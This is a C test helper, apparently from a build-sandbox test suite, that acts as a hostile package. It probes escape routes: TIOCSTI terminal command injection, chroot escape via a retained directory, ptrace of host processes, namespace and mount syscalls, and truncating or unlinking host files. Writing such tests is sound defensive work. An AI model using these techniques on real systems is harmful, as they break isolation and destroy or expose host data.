/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* attacker: what a hostile package's script cannot do with a shell alone. It is linked statically
   and comes with the package, so it runs where nothing of the host can be seen.

   Everything that succeeds and should not have is printed, a word a line. What it does to the host
   where nothing holds it must be harmless: signals that are ignored, values that are set already.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#define NOWHERE 65432

static void say(const char *word)
{
    printf("%s\n", word);
    fflush(stdout);
}

static void say_if(bool succeeded, const char *word)
{
    if (succeeded)
        say(word);
}

/* sockets PORT PATH ABSTRACT: which families there are, and who of the host answers. */

static void try_connect(const char *word, const void *address, socklen_t length)
{
    int family = ((const struct sockaddr *)address)->sa_family;
    int fd = socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0)
        return;
    int rc = connect(fd, address, length);
    if (rc < 0 && errno == EINPROGRESS) {
        struct pollfd ready = {.fd = fd, .events = POLLOUT};
        int failure = 0;
        socklen_t size = sizeof failure;
        rc = poll(&ready, 1, 2000) == 1 &&
                     getsockopt(fd, SOL_SOCKET, SO_ERROR, &failure, &size) == 0 && failure == 0
                 ? 0
                 : -1;
    }
    say_if(rc == 0, word);
    close(fd);
}

static int sockets(char **argv)
{
    static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET};
    for (int family = 0; family < 64; family++) {
        bool there = false;
        for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
            int fd = socket(family, types[i], 0);
            there = there || fd >= 0;
            if (fd >= 0)
                close(fd);
        }
        if (there)
            printf("family %d\n", family);
    }
    fflush(stdout);
    struct sockaddr_in port = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[0]))};
    port.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    try_connect("port", &port, sizeof port);
    port.sin_addr.s_addr = htonl(0xc0000201); /* 192.0.2.1, which is nobody's */
    try_connect("world", &port, sizeof port);
    struct sockaddr_un local = {.sun_family = AF_UNIX};
    snprintf(local.sun_path, sizeof local.sun_path, "%s", argv[1]);
    try_connect("path", &local, sizeof local);
    memset(local.sun_path, 0, sizeof local.sun_path);
    snprintf(local.sun_path + 1, sizeof local.sun_path - 1, "%s", argv[2]);
    try_connect("abstract", &local,
                (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argv[2])));
    return 0;
}

/* terminal: pushes a command into whatever terminal can be had. */

static void push(int fd)
{
    for (const char *p = "evil\n"; *p; p++) {
        ioctl(fd, TIOCSTI, p);
        /* The kernel looks at the low half alone. */
        syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI | 1ul << 32, p);
    }
}

static int terminal(char **argv)
{
    static const char *const names[] = {"/dev/tty",        "/dev/console",    "/dev/ptmx",
                                        "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"};
    char of_parent[64];
    (void)argv;
    for (int fd = 0; fd < 64; fd++)
        push(fd);
    for (size_t i = 0; i <= sizeof names / sizeof *names; i++) {
        snprintf(of_parent, sizeof of_parent, "/proc/%d/fd/0", getppid());
        const char *name = i < sizeof names / sizeof *names ? names[i] : of_parent;
        int fd = open(name, O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (fd >= 0)
            push(fd);
    }
    return 0;
}

/* calls PID KEY: system calls that lead out, or to a process of the host and its shared memory. */

static void call_of_mounts(void)
{
    say_if(mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0, "mount");
    say_if(syscall(SYS_open_tree, AT_FDCWD, "/", 1u /* OPEN_TREE_CLONE */) >= 0, "open_tree");
    say_if(syscall(SYS_fsopen, "tmpfs", 0) >= 0, "fsopen");
    say_if(syscall(SYS_pivot_root, ".", ".") == 0, "pivot_root");
}

static void call_of_namespaces(void)
{
    static const struct {
        uint64_t flag;
        const char *unshared, *cloned;
    } kinds[] = {{CLONE_NEWNS, "unshare mnt", "clone3 mnt"},
                 {CLONE_NEWUSER, "unshare user", "clone3 user"},
                 {CLONE_NEWPID, "unshare pid", "clone3 pid"},
                 {CLONE_NEWNET, "unshare net", "clone3 net"},
                 {CLONE_NEWUTS, "unshare uts", "clone3 uts"}};
    for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        say_if(syscall(SYS_unshare, kinds[i].flag) == 0, kinds[i].unshared);
        struct clone_args arguments = {.flags = kinds[i].flag, .exit_signal = SIGCHLD};
        long pid = syscall(SYS_clone3, &arguments, sizeof arguments);
        if (pid == 0)
            _exit(0);
        say_if(pid > 0, kinds[i].cloned);
        pid = syscall(SYS_clone, kinds[i].flag | SIGCHLD, NULL, NULL, NULL, NULL);
        if (pid == 0)
            _exit(0);
        say_if(pid > 0, "clone");
    }
    int fd = open("/proc/1/ns/mnt", O_RDONLY);
    say_if(fd >= 0 && syscall(SYS_setns, fd, 0) == 0, "setns");
}

static void call_of_the_kernel(void)
{
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4};
    map.max_entries = 1;
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event};
    struct io_uring_params ring = {0};
    char log[16];
    say_if(syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map) >= 0, "bpf");
    say_if(syscall(SYS_perf_event_open, &event, 0, -1, -1, 0) >= 0, "perf_event_open");
    say_if(syscall(SYS_io_uring_setup, 1, &ring) >= 0, "io_uring_setup");
    say_if(syscall(SYS_userfaultfd, 0) >= 0, "userfaultfd");
    say_if(syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* the user's */, 0) >= 0,
           "keyctl");
    say_if(syscall(SYS_add_key, "user", "plamo-fast", "x", 1, -4) >= 0, "add_key");
    say_if(syscall(SYS_fanotify_init, 0, 0) >= 0, "fanotify_init");
    say_if(syscall(SYS_syslog, 3, log, sizeof log) >= 0, "syslog");
    say_if(syscall(SYS_kexec_load, 0, 0, NULL, 0) == 0, "kexec_load");
#ifdef SYS_iopl
    say_if(syscall(SYS_iopl, 3) == 0, "iopl");
#endif
}

static void call_of_handles(void)
{
    struct {
        struct file_handle handle;
        unsigned char space[128];
    } found = {.handle.handle_bytes = sizeof found.space};
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, ".", &found.handle, &mount_id, 0) < 0)
        return;
    int fd = open(".", O_RDONLY | O_DIRECTORY);
    say_if(open_by_handle_at(fd, &found.handle, O_RDONLY) >= 0, "open_by_handle_at");
}

static void call_of_a_process(pid_t pid)
{
    char byte = 0;
    struct iovec here = {&byte, 1}, there = {(void *)(uintptr_t)0x1000, 1};
    struct rlimit limit;
    cpu_set_t cpus;
    say_if(ptrace((enum __ptrace_request)PTRACE_SEIZE, pid, NULL, NULL) == 0, "ptrace");
    say_if(syscall(SYS_process_vm_readv, pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT,
           "process_vm_readv");
    say_if(prlimit(pid, RLIMIT_NOFILE, NULL, &limit) == 0, "prlimit");
    say_if(setpriority(PRIO_PROCESS, (id_t)pid, 0) == 0, "setpriority");
    say_if(sched_getaffinity(pid, sizeof cpus, &cpus) == 0 &&
               sched_setaffinity(pid, sizeof cpus, &cpus) == 0,
           "sched_setaffinity");
}

static int calls(char **argv)
{
    pid_t pid = atoi(argv[0]);
    call_of_a_process(pid);
    say_if(shmget(atoi(argv[1]), 0, 0) >= 0, "shmget");
    struct mq_attr attributes = {.mq_maxmsg = 1, .mq_msgsize = 1};
    mq_open("/plamo-fast-attack", O_CREAT | O_RDWR, 0600, &attributes);
    call_of_handles();
    call_of_the_kernel();
    call_of_namespaces();
    call_of_mounts();
    return 0;
}

/* signals PID: SIGURG, which is ignored where nobody blocks it, by every way there is. */

static void signal_one(pid_t pid)
{
    siginfo_t info = {.si_signo = SIGURG, .si_code = SI_QUEUE};
    kill(pid, SIGURG);
    syscall(SYS_tkill, pid, SIGURG);
    syscall(SYS_tgkill, pid, pid, SIGURG);
    syscall(SYS_rt_sigqueueinfo, pid, SIGURG, &info);
    syscall(SYS_rt_tgsigqueueinfo, pid, pid, SIGURG, &info);
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (fd >= 0)
        syscall(SYS_pidfd_send_signal, fd, SIGURG, NULL, 0);
}

static int signals(char **argv)
{
    signal_one(atoi(argv[0]));
    kill(-1, SIGURG);
    kill(-atoi(argv[0]), SIGURG);
    kill(-getpgid(getppid()), SIGURG);
    return 0;
}

/* What may be done to a file of the host once there is a way to it. */

static void harm(const char *path)
{
    char text[64] = "";
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && read(fd, text, sizeof text - 1) > 0)
        say(text);
    say_if(open(path, O_WRONLY) >= 0, "written");
    say_if(chmod(path, 0777) == 0, "chmod");
    say_if(chown(path, NOWHERE, NOWHERE) == 0, "chown");
    say_if(utimensat(AT_FDCWD, path, NULL, 0) == 0, "utimensat");
    say_if(truncate(path, 0) == 0, "truncate");
    say_if(link(path, "stolen") == 0, "link");
    say_if(unlink(path) == 0, "unlink");
}

/* From the working directory up to the top that is there, and down to the file. */
static void climb_here(const char *path)
{
    struct stat before, now;
    if (stat(".", &before) < 0)
        return;
    for (int i = 0; i < 128 && chdir("..") == 0 && stat(".", &now) == 0; i++) {
        if (before.st_dev == now.st_dev && before.st_ino == now.st_ino)
            break;
        before = now;
    }
    harm(path + 1);
}

/* climb PATH: from the working directory, and from each open directory. */
static int climb(char **argv)
{
    harm(argv[0]);
    climb_here(argv[0]);
    for (int fd = 0; fd < 1024; fd++) {
        if (fchdir(fd) == 0)
            climb_here(argv[0]);
    }
    return 0;
}

/* escape PATH: out of a chroot by another one, with a directory above it at hand. */
static int escape(char **argv)
{
    mkdir("below", 0755);
    int above = open(".", O_RDONLY | O_DIRECTORY);
    say_if(chroot("below") == 0 && access("/leaks", F_OK) == 0, "chroot");
    if (fchdir(above) == 0)
        climb_here(argv[0]);
    if (chroot(".") == 0)
        harm(argv[0]);
    return 0;
}

static void wait_for(const char *path)
{
    for (int i = 0; i < 200 && access(path, F_OK) < 0; i++)
        usleep(50000);
}

/* moved DIRECTORY READY GO PATH: stands in the directory until somebody has moved that elsewhere.
 */
static int moved(char **argv)
{
    int go_at = open(".", O_RDONLY | O_DIRECTORY);
    if (chdir(argv[0]) < 0 || close(open(argv[1], O_WRONLY | O_CREAT, 0644)) < 0)
        return 1;
    (void)go_at;
    wait_for(argv[2]);
    climb_here(argv[3]);
    return 0;
}

/* open PATH…: which of them open as device nodes. */
static int opens(char **argv)
{
    for (; *argv; argv++) {
        struct stat st;
        int fd = open(*argv, O_RDONLY | O_NONBLOCK | O_NOCTTY);
        if (fd < 0)
            fd = open(*argv, O_WRONLY | O_NONBLOCK | O_NOCTTY);
        say_if(fd >= 0 && fstat(fd, &st) == 0 && (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)),
               *argv);
    }
    return 0;
}

/* large FILE: goes beyond every limit of a file's size, and survives it. */
static int large(char **argv)
{
    signal(SIGXFSZ, SIG_IGN);
    int fd = open(argv[0], O_WRONLY | O_CREAT, 0644);
    if (fd < 0 || ftruncate(fd, INT64_C(20) << 30) == 0)
        return 1;
    return errno == EFBIG ? 0 : 1;
}

/* flood DIRECTORY: gigabytes that are taken, not written. */
static int flood(char **argv)
{
    char name[64];
    if (chdir(argv[0]) < 0)
        return 1;
    for (int i = 0; i < 10; i++) {
        snprintf(name, sizeof name, "flood-%d", i);
        int fd = open(name, O_WRONLY | O_CREAT, 0644);
        if (fd < 0 || fallocate(fd, 0, 0, INT64_C(2) << 30) < 0)
            return 1;
        close(fd);
    }
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int words;
        int (*run)(char **argv);
    } attacks[] = {{"sockets", 3, sockets}, {"terminal", 0, terminal}, {"calls", 2, calls},
                   {"signals", 1, signals}, {"climb", 1, climb},       {"escape", 1, escape},
                   {"moved", 4, moved},     {"open", 1, opens},        {"large", 1, large},
                   {"flood", 1, flood}};
    for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++) {
        if (strcmp(argv[1], attacks[i].name) == 0 && argc - 2 >= attacks[i].words)
            return attacks[i].run(argv + 2);
    }
    fprintf(stderr, "attacker: what?\n");
    return 2;
}
